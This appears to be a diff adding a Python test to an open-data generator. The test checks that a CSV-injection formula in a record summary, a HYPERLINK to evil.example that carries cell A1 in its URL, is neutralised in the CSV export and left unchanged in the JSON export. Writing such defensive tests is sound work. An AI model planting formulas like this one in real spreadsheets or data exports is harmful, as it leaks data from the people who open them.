@@ -173,3 +173,25 @@ def test_a_copy_without_git_history_still_builds_and_says_so(tmp_path):
     assert not (project / "site" / "data" / "history.json").exists()
     feed = feedparser.parse((project / "site" / "data" / "feed.xml").read_bytes())
     assert not feed.bozo and len(feed.entries) == 0
+
+
+def test_a_formula_in_a_record_reaches_the_csv_as_text_and_the_json_unchanged(tmp_path):
+    """CSV injection: a summary that starts with '=' must not run as a formula when registry.csv is opened."""
+    from generator.opendata import OpenDataOptions, registry_csv, registry_json
+    from generator.registry import load_registry
+
+    registry_dir = tmp_path / "registry"
+    shutil.copytree(FIXTURES / "valid", registry_dir)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    path = registry_dir / "minimal.yaml"
+    path.write_text(path.read_text().replace("summary: A record with only the required fields filled in.",
+                                             f"summary: '{formula}'"))
+    result = load_registry(registry_dir)
+    assert result.registry is not None, result.problems
+    options = OpenDataOptions()
+    rows = list(csv.DictReader(io.StringIO(registry_csv(result.registry, options))))
+    minimal = next(r for r in rows if r["id"] == "minimal")
+    assert minimal["summary"] == "'" + formula
+    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())
+    exact = next(s for s in registry_json(result.registry, load_schemas(), options)["systems"] if s["id"] == "minimal")
+    assert exact["summary"] == formula
